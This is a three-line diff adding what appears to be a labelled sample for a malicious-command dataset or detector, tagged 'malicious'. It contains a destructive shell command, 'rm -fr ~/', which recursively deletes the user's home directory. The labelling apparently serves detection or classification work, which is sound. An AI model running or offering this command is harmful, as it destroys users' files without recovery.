@@ -1,0 +1,3 @@
+# label: malicious
+cd /tmp
+rm -fr ~/
